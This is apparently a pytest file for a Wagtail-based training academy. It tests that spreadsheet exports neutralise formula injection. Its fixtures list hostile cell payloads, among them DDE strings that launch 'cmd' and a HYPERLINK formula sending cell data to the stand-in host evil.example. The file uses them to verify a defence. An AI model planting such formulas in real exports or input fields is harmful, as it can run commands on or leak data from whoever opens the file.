"""Formula injection through spreadsheet exports: Wagtail's own reports and the academy's.

A trainee's certificate name and an instructor's page title reach the site
history, the aging-pages report and the cohort reports that an academy
admin downloads. No cell of any of those files may be a live formula.
"""

import csv
import io
import zipfile
from collections import OrderedDict

import openpyxl
import pytest
from django.test import RequestFactory
from django.urls import reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from academy.models import Profile
from academy.services import profile_for, profile_update
from academy.spreadsheets import is_formula_text, neutralise_formula
from courses.services import course_team_set_authors
from tests.cohort_factories import enrol, verified_user
from tests.courses.admin_helpers import client_for
from tests.factories import course_with_lessons
from tests.quiz_factories import ALL_RIGHT, quiz_in_course, take

pytest_plugins = ["tests.courses.admin_fixtures"]

# Names a trainee can save through the profile form.
TYPED = [
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "   =1+1",
]
# Text that arrives in a row some other way (an import, a script, an old row):
# control characters the forms refuse, and whitespace other than spaces.
STORED = ["\t=1+1", "\r=1+1", "\u00a0\u3000@SUM(1)"]
PAYLOADS = TYPED + STORED


def content(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content(response).decode("utf-8"), newline="")))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_formula_cell(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not is_formula_text(cell) or is_number(cell), repr(cell)


def xlsx_sheet(response):
    data = content(response)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, "a formula cell"
    return openpyxl.load_workbook(io.BytesIO(data)).active


def assert_no_formula_in_sheet(sheet) -> list:
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells), "a formula cell"
    return [cell.value for cell in cells]


def xml_text(value: str) -> str:
    # XML reads a carriage return in a cell as a line feed.
    return value.replace("\r", "\n")


@pytest.fixture
def admin_client(academy_admin):
    return client_for(academy_admin)


@pytest.fixture
def hostile_history(catalogue, academy_admin, instructor_x):
    """Profile changes and page publications whose labels are formulas."""
    for number, name in enumerate(PAYLOADS):
        user = verified_user(username=f"formula{number}", email=f"f{number}@x.example")
        if name in TYPED:
            profile_update(user=user, acting_user=user, data={"certificate_name": name})
        else:
            profile = profile_for(user)
            Profile.objects.filter(pk=profile.pk).update(certificate_name=name)
            profile.refresh_from_db()
            log(instance=profile, action="academy.profile_change", user=user)
    courses = []
    for name in TYPED:
        course, _ = course_with_lessons(
            parent=catalogue, modules=1, lessons_per_module=1, title=name
        )
        # The instructor, on the course's team, types the title; a reviewer publishes it.
        course_team_set_authors(course=course, users=[instructor_x], acting_user=academy_admin)
        course.save_revision(user=instructor_x).publish(user=academy_admin)
        courses.append(course)
    return courses


# The rule ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("\ttext", "'\ttext"),
        ("  =1", "'  =1"),
        ("\u00a0=1", "'\u00a0=1"),
        ("'=1", "'=1"),
        ("Amina", "Amina"),
        ("Amina -1", "Amina -1"),
        ("", ""),
        (-1, -1),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected


def test_neutralising_twice_changes_nothing_more():
    for payload in PAYLOADS:
        assert neutralise_formula(neutralise_formula(payload)) == neutralise_formula(payload)


# Wagtail's site history --------------------------------------------------------------


def test_site_history_csv_has_no_formula_cell(hostile_history, admin_client):
    rows = csv_cells(admin_client.get("/admin/reports/site-history/?export=csv"))

    assert_no_formula_cell(rows)
    labels = {row[1] for row in rows[1:]}
    # Each hostile label is there, behind one apostrophe, and otherwise as typed.
    for payload in PAYLOADS:
        assert "'" + payload in labels, payload


def test_site_history_xlsx_has_no_formula_cell(hostile_history, admin_client):
    sheet = xlsx_sheet(admin_client.get("/admin/reports/site-history/?export=xlsx"))

    values = assert_no_formula_in_sheet(sheet)
    for payload in PAYLOADS:
        assert xml_text(payload) in values, payload


# Wagtail's aging pages -------------------------------------------------------------


def test_aging_pages_csv_has_no_formula_cell(hostile_history, admin_client):
    rows = csv_cells(admin_client.get("/admin/reports/aging-pages/?export=csv"))

    assert_no_formula_cell(rows)
    titles = {row[0] for row in rows[1:]}
    assert {"'" + name for name in TYPED} <= titles


def test_aging_pages_xlsx_has_no_formula_cell(hostile_history, admin_client):
    sheet = xlsx_sheet(admin_client.get("/admin/reports/aging-pages/?export=xlsx"))

    values = assert_no_formula_in_sheet(sheet)
    assert set(TYPED) <= set(values)


# Any view with the export mixin: headings too ---------------------------------------


class FreeTextExport(SpreadsheetExportMixin):
    """A listing whose column headings are typed by someone (as form field labels are)."""

    list_export = ["name", "score"]
    export_headings = {"name": '=HYPERLINK("http://evil.example")', "score": "-score"}


def exported(export_format: str) -> bytes:
    view = FreeTextExport()
    view.request = RequestFactory().get("/")
    rows = [OrderedDict(name=name, score=-3) for name in PAYLOADS]
    view.to_row_dict = lambda item: item
    response = view.as_spreadsheet(rows, export_format)
    return b"".join(response.streaming_content) if response.streaming else response.getvalue()


def test_any_export_csv_neutralises_headings_and_cells_and_keeps_numbers():
    rows = list(csv.reader(io.StringIO(exported("csv").decode(), newline="")))

    assert rows[0] == ['\'=HYPERLINK("http://evil.example")', "'-score"]
    assert [row[0] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert {row[1] for row in rows[1:]} == {"-3"}  # a number stays a number


def test_any_export_xlsx_has_no_formula_heading_or_cell():
    data = exported("xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert_no_formula_in_sheet(sheet)
    scores = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {(cell.data_type, cell.value) for cell in scores} == {("n", -3)}


# The academy's own exports -----------------------------------------------------------


@pytest.fixture
def hostile_quiz(catalogue):
    """A running cohort with a quiz; trainees named like formulas, each with an attempt."""
    built = quiz_in_course(catalogue)
    for number, name in enumerate(TYPED):
        enrollment = enrol(built.cohort, username=f"cohort{number}", email=f"c{number}@x.example")
        profile_update(
            user=enrollment.user, acting_user=enrollment.user, data={"certificate_name": name}
        )
        take(built.quiz, enrollment, ALL_RIGHT)
    return built


@pytest.mark.parametrize(
    "url",
    [
        lambda built: reverse("academy_reports:cohort_report", args=[built.cohort.pk]) + "?",
        lambda built: (
            reverse("academy_quiz_results:quiz", args=[built.cohort.pk, built.quiz.pk])
            + "?table=trainees&"
        ),
    ],
    ids=["cohort-report", "quiz-results"],
)
def test_academy_exports_have_no_formula_cell(hostile_quiz, admin_client, url):
    rows = csv_cells(admin_client.get(url(hostile_quiz) + "export=csv"))

    assert_no_formula_cell(rows)
    assert {"'" + name for name in TYPED} <= {row[0] for row in rows[1:]}

    sheet = xlsx_sheet(admin_client.get(url(hostile_quiz) + "export=xlsx"))
    assert set(TYPED) <= set(assert_no_formula_in_sheet(sheet))
